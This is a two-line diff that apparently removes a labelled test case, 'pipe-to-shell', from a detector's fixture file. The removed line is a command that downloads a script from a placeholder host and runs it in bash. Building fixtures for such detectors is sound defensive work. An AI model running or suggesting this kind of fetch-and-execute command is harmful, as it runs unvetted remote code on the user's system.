@@ -1,2 +1,0 @@
-# expect: pipe-to-shell
-bash <(curl -s https://example.com/x)
